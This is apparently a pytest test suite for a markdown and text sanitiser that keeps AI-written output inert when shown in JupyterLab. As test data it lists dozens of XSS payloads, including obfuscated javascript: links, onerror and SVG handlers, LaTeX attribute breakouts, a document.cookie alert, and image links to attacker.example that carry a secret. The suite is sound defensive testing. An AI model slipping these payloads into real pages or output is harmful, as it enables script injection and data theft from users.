"""safe_markdown: hostile model text stays text under any markdown renderer.

Two checks for every input. One needs no renderer: the only `<` in the output are our
own `<pre>`, `<code>` and their end tags, so no parser can find a tag the model wrote.
Nor is there a `"` (JupyterLab puts LaTeX back into attributes with `"` unescaped).
The other renders the output with mistune (raw HTML allowed, like a trusted notebook
output) and reads the HTML: only markdown's own elements, no event attribute, links
only to http, https, mailto or relative targets, images only relative. The browser test
(tests/test_browser.py) runs the same kind of text through JupyterLab itself.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tiny_agent_nb.safe_markdown import safe_markdown, safe_text

mistune = pytest.importorskip("mistune")  # comes with jupyterlab (the test extra)

RENDER = mistune.create_markdown(escape=False, plugins=["table", "strikethrough", "url"])
ELEMENTS = {
    "p", "strong", "em", "code", "pre", "a", "img", "ul", "ol", "li", "blockquote", "br",
    "hr", "del", "table", "thead", "tbody", "tr", "th", "td",
    "h1", "h2", "h3", "h4", "h5", "h6", "span",
}  # fmt: skip
# A URL has a scheme only when it starts with a letter (WHATWG URL, "scheme start
# state"): `%5D():` is a relative link, `javascript:` is not. Checked after removing what
# a browser strips or skips (C0 controls and spaces).
SAFE_HREF = re.compile(r"(?:https?:|mailto:|(?![a-z][a-z0-9+.-]*:))", re.IGNORECASE)
BROWSER_SKIPS = re.compile(r"[\x00-\x20]+")
SAFE_SRC = re.compile(r"(?!//)[^:/?#]*(?:[/?#]|$)")
OUR_TAGS = re.compile(r"</?(?:pre|code)>|<span class='tex2jax_ignore mathjax_ignore'>|</span>")


class Page(HTMLParser):
    """The elements, attributes and visible text of rendered HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.code: list[str] = []
        self._in_code = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self.text.append(dict(attrs).get("alt") or "")  # what an image shows as text
        self._in_code += tag == "code"

    def handle_endtag(self, tag: str) -> None:
        self._in_code -= tag == "code"

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._in_code:
            self.code.append(data)


def render(markdown: str) -> Page:
    page = Page()
    page.feed(RENDER(markdown))
    page.close()
    return page


def assert_inert(text: str) -> Page:
    """safe_markdown(text) holds no tag of the model's and renders to nothing active."""
    out = safe_markdown(text)
    assert "<" not in OUR_TAGS.sub("", out), out
    # JupyterLab puts LaTeX back into the HTML with `"` unescaped: none may be there
    assert '"' not in out, out
    page = render(out)
    for tag, attrs in page.elements:
        assert tag in ELEMENTS, (tag, out)
        assert not [a for a in attrs if a.startswith("on")], (tag, attrs, out)
        href, src = attrs.get("href"), attrs.get("src")
        assert href is None or SAFE_HREF.match(BROWSER_SKIPS.sub("", href)), (href, out)
        assert src is None or SAFE_SRC.match("".join(src.split())), (src, out)
    return page


PAYLOAD = "<img src=x onerror=alert(1)>"

# (scenario, model text, what the reader must still see)
HOSTILE: list[tuple[str, str, str]] = [
    ("img tag", f"Here {PAYLOAD} done", PAYLOAD),
    ("script tag", "<script>window.__pwned=1</script>", "<script>window.__pwned=1</script>"),
    ("iframe", '<iframe src="javascript:alert(1)"></iframe>', "<iframe"),
    ("html block", "<div onclick=alert(1)>\n\n*x*\n\n</div>", "<div onclick=alert(1)>"),
    ("comment", "<!-- <img src=x onerror=alert(1)> -->", "<!--"),
    ("svg", "<svg><animate onbegin=alert(1) attributeName=x /></svg>", "<svg>"),
    ("autolink", "<javascript:alert(1)>", "<javascript:alert(1)>"),
    ("entity", "&lt;img src=x onerror=alert(1)&gt;", "&lt;img src=x onerror=alert(1)&gt;"),
    ("numeric entity", "&#60;script&#62;x", "&#60;script&#62;x"),
    ("inline link", "[click](javascript:alert(1))", "click"),
    ("mixed case", "[click](JaVaScRiPt:alert(1))", "click"),
    ("leading space", "[click](   javascript:alert(1))", "click"),
    ("line break", "[click](\njavascript:alert(1))", "click"),
    ("many spaces", "[click](" + " " * 700 + "javascript:alert(1))", "click"),
    ("pointy", "[click](<javascript:alert(1)>)", "click"),
    ("entity colon", "[click](javascript&#58;alert(1))", "click"),
    ("entity tab", "[click](java&#x09;script:alert(1))", "click"),
    ("escaped colon", "[click](javascript\\:alert(1))", "click"),
    ("percent", "[click](%6Aavascript:alert(1))", "click"),
    ("vbscript", "[click](vbscript:msgbox(1))", "click"),
    ("file", "[click](file:///etc/passwd)", "click"),
    ("data link", "[click](data:text/html;base64,PHNjcmlwdD4=)", "click"),
    ("title", '[click](javascript:alert(1) "t")', "click"),
    ("reference", "[click][r]\n\n[r]: javascript:alert(1)", "click"),
    ("shortcut", "[r]\n\n[r]:\n  javascript:alert(1)", "[r]"),
    ("label over lines", "[a\nb]\n\n[a\nb]: javascript:alert(1)", "a"),
    ("definition in quote", "> [r]: javascript:alert(1)\n\n[r]", "[r]"),
    ("definition in list", "- [r]: javascript:alert(1)\n\n[r]", "[r]"),
    ("tag in link text", f"[{PAYLOAD}](https://example.com)", PAYLOAD),
    ("link in image", "[![a](a.png)](javascript:alert(1))", "a"),
    ("data image", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "x"),
    ("remote image", "![x](https://attacker.example/p.png?secret=1)", "x"),
    ("protocol relative image", "![x](//attacker.example/p.png)", "x"),
    ("reference image", "![x][r]\n\n[r]: https://attacker.example/p.png", "x"),
    ("unclosed fence", f"```\n{PAYLOAD}", PAYLOAD),
    ("fence in list", f"- a\n\n  ```\n  x\n{PAYLOAD}\n  ```", PAYLOAD),
    ("tab fence in list", f"- a\n\n\t```\n\tx\n  ```\n  {PAYLOAD}\n  ```", PAYLOAD),
    ("math over code", f"$ x\n  ```\n  $ {PAYLOAD}\n  ```", PAYLOAD),
    ("fence in quote", f"> ```\n{PAYLOAD}\n```", PAYLOAD),
    ("backtick info", f"``` a`b\n{PAYLOAD}\n```", PAYLOAD),
    ("long fence", f"````\n```\n{PAYLOAD}\n```\n````\n{PAYLOAD}", PAYLOAD),
    ("unclosed span", f"`{PAYLOAD}", PAYLOAD),
    ("span over lines", f"a `b\nc` {PAYLOAD}` d`", PAYLOAD),
    ("span lengths", f"``a` {PAYLOAD} `` x", PAYLOAD),
    ("span in table", f"| `a|b` `{PAYLOAD}` |\n|---|\n| c |", "onerror"),
    ("escaped backslash", f"\\\\`{PAYLOAD}$ ` $", PAYLOAD),
    ("escaped tick", f"\\`{PAYLOAD}`", PAYLOAD),
    ("latex in alt", '![$" onerror="alert(1)//$](plot.png)', "onerror"),
    ("latex in link", '[a](https://example.com/$" onmouseover="alert(1)//$)', "onmouseover"),
    ("carriage return", f"```\rx\r```\r{PAYLOAD}", PAYLOAD),
    ("indented code", f"    {PAYLOAD}", "onerror"),
]


@pytest.mark.parametrize(("text", "visible"), [h[1:] for h in HOSTILE], ids=[h[0] for h in HOSTILE])
def test_hostile_text_renders_as_visible_inert_text(text: str, visible: str) -> None:
    page = assert_inert(text)
    assert visible in "".join(page.text)


def test_every_prefix_of_a_streamed_answer_is_inert() -> None:
    answer = "".join(h[1] + "\n\n" for h in HOSTILE)
    for end in range(0, len(answer), 7):
        assert_inert(answer[:end])


# (scenario, model text, elements expected in the rendering)
KEPT: list[tuple[str, str, list[tuple[str, dict[str, Any]]]]] = [
    ("http link", "[a](https://example.com/x?y=1&z=2)", [("a", {"href": "https://example.com/x?y=1&z=2"})]),
    ("mailto", "[a](mailto:me@example.com)", [("a", {"href": "mailto:me@example.com"})]),
    ("relative link", "[a](docs/x.md#part)", [("a", {"href": "docs/x.md#part"})]),
    ("anchor", "[a](#part)", [("a", {"href": "#part"})]),
    ("reference", "[a][r]\n\n[r]: https://example.com", [("a", {"href": "https://example.com"})]),
    ("bare url", "see https://example.com now", [("a", {"href": "https://example.com"})]),
    ("relative image", "![plot](out/plot.png)", [("img", {"src": "out/plot.png", "alt": "plot"})]),
    ("emphasis", "**b** and *i*", [("strong", {}), ("em", {})]),
    ("list", "1. one\n2. two", [("ol", {}), ("li", {}), ("li", {})]),
    ("table", "| a | b |\n|---|---|\n| 1 | 2 |", [("table", {})]),
    ("heading", "# Title", [("h1", {})]),
]  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), [k[1:] for k in KEPT], ids=[k[0] for k in KEPT])
def test_ordinary_markdown_keeps_its_meaning(
    text: str, expected: list[tuple[str, dict[str, Any]]]
) -> None:
    page = assert_inert(text)
    for tag, attrs in expected:
        assert any(t == tag and attrs.items() <= a.items() for t, a in page.elements), (
            tag,
            attrs,
            page.elements,
        )


CODE = 'if a < b and c > d:\n    print(f"${a}" + `x` + "&amp; \\n [l](javascript:x)")\n\n  end'


@pytest.mark.parametrize(
    "text",
    [
        f"```python\n{CODE}\n```",
        f"~~~~\n{CODE}\n~~~~",
        "1. step\n\n   ```sh\n" + "\n".join("   " + line for line in CODE.split("\n")) + "\n   ```",
    ],
    ids=["backticks", "tildes", "in a list"],
)
def test_fenced_code_shows_exactly_what_the_model_wrote(text: str) -> None:
    page = assert_inert(text)
    assert "".join(page.code) == CODE
    assert ("pre", {}) in page.elements


def test_code_spans_show_their_content_as_written() -> None:
    page = assert_inert("use `a<b && c` or `` x`y `` or `<img src=x onerror=alert(1)>`")
    assert page.code == ["a<b && c", "x`y", "<img src=x onerror=alert(1)>"]


def test_latex_and_text_characters_are_left_for_the_renderer() -> None:
    text = "Energy is $E = mc^2$, a -> b, 50% off, _under_ and > quote"
    assert safe_markdown(text) == text


MONEY = [
    "The budget is $5 per day and we spent $3",
    "budget $0.001 reached: this run spent $0.002",
    "from $5-$10, or $ 20 $",
    "an escaped \\$5 and \\$3",
    "$x $ and ${x$ and $$\n\n$$",
]


@pytest.mark.parametrize("text", [*MONEY, "*$5* and **$3**, | $1 | $2 |", "`$x$` $a`b`c$"])
def test_a_dollar_that_is_not_maths_shows_as_written_and_no_renderer_pairs_it(text: str) -> None:
    """JupyterLab pairs `$` before markdown (removeMath) and MathJax in the page: no bare
    `$` is left for either; each is an entity in a span MathJax skips (or code)."""
    out = safe_markdown(text)
    assert "$" not in out, out
    shown = "".join(render(out).text)
    assert shown.count("$") == text.count("$"), shown
    if text in MONEY:
        assert shown.strip() == text.replace("\\$", "$").replace("\n\n", "\n"), shown


@pytest.mark.parametrize(
    ("text", "maths"),
    [
        ("Energy is $E = mc^2$.", ["$E = mc^2$"]),
        ("$x$ costs $5", ["$x$"]),
        ("$$\\sum_{i=1}^n i$$ and $$\na\n$$", ["$$\\sum_{i=1}^n i$$", "$$\na\n$$"]),
        ("pay $5, then $\\$3$ is TeX", ["$\\$3$"]),
    ],
)
def test_maths_written_on_purpose_is_left_for_the_renderer(text: str, maths: list[str]) -> None:
    out = safe_markdown(text)
    for span in maths:
        assert span in out, out
    assert out.count("$") == sum(m.count("$") for m in maths), out


def test_a_dollar_in_a_link_destination_keeps_the_link() -> None:
    page = assert_inert("[costs $5](https://example.com/a$b) and ![$5](plot.png) [r]\n\n[r]: x$y")
    hrefs = [a.get("href") for t, a in page.elements if t == "a"]
    assert hrefs == ["https://example.com/a$b", "x$y"]
    assert [a.get("alt") for t, a in page.elements if t == "img"] == ["$5"]


TOKENS = [*"`~<>&[]()!:$\\ \n\t*_|#-=\"'/;abjvsxip0", "javascript:", "data:", PAYLOAD, "&#58;",
          "```", "](", "]: ", "![", "http://", "    ", "> ", "- ", "1. "]  # fmt: skip
MARKDOWNISH = st.lists(st.sampled_from(TOKENS), max_size=60).map("".join)


@settings(max_examples=100, deadline=None)
@given(MARKDOWNISH)
# Found by hypothesis: mistune percent-encodes `]` and decodes `&amp;#58;` to `:`, so the
# href is `%5D():` (relative; an oracle that wanted no `:` before a `/` called it unsafe).
@example("[](]()&#58;)")
def test_any_mix_of_markdown_syntax_and_payloads_is_inert(text: str) -> None:
    assert_inert(text)


# JupyterLab's link finder for text output (rendermime's webLinkRegex), as it is in 4.x
JUPYTER_TEXT_LINK = re.compile(
    r"(?:[a-zA-Z][a-zA-Z0-9+.-]{2,40}://|data:|www\.)[^\s\x00-\x20\x7f-\x9f\"]{2,}"
    r"[^\s\x00-\x20\x7f-\x9f\"'(){}\[\],:;.!?]"
)


@pytest.mark.parametrize(
    "text",
    [
        '→ bash command="open javascript://%0Aalert(document.cookie)"',
        "✗ read_file error — JavaScript://x: no such file",
        "vbscript://x and data:text/html,<script>alert(1)</script>",
        "metadata:x and vscode://file/etc/passwd and ms-msdt://x",
    ],
)
def test_text_output_has_no_link_but_http_ones(text: str) -> None:
    shown = safe_text(text)
    links = [m.group() for m in JUPYTER_TEXT_LINK.finditer(shown)]
    assert links == []
    assert shown.replace("\ufeff", "") == text  # reads the same


def test_text_output_keeps_http_links() -> None:
    text = "see https://example.com/a and http://127.0.0.1:8888/lab"
    assert safe_text(text) == text
    assert [m.group() for m in JUPYTER_TEXT_LINK.finditer(text)] == [
        "https://example.com/a",
        "http://127.0.0.1:8888/lab",
    ]


def test_a_long_run_of_letters_is_made_safe() -> None:
    """A base64 line in a tool's output, or a model repeating itself: scheme candidates
    were tried from every letter of a run with no `://` after it, n^2 steps (40 KB took
    7 s of the kernel's CPU per render). That it is linear now is measured by
    bench/bench_untrusted_text.py (tests/test_bench_untrusted_text.py runs it)."""
    text = "QUFB" * 15_000 + " then javascript://x and data:y"
    shown = safe_text(text)
    assert shown.startswith("QUFB" * 15_000)
    assert "javascript://" not in shown and "data:" not in shown


# The scheme finder before it was made linear: tried from every letter (n^2 steps on a
# long run of letters), the reference for what safe_text unlinks.
EVERY_LETTER = re.compile(r"(?P<scheme>[A-Za-z][A-Za-z0-9+.-]*)(?=://)|(?<=data)(?=:)")


def unlinked_from_every_letter(text: str) -> str:
    def unlink(match: re.Match[str]) -> str:
        scheme = match["scheme"]
        if scheme is None:
            return "\ufeff"
        return scheme if scheme.lower() in ("http", "https") else scheme + "\ufeff"

    return EVERY_LETTER.sub(unlink, text)


SCHEME_TOKENS = [*"aZq19+.-:/ ", "://", "data", "http", "https", "javascript", "\n"]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(SCHEME_TOKENS), max_size=30).map("".join))
@example("1http://x and 2a.b-c+d://y, data:z, xdata:w")
def test_safe_text_unlinks_what_a_scheme_tried_from_every_letter_unlinks(text: str) -> None:
    assert safe_text(text) == unlinked_from_every_letter(text)
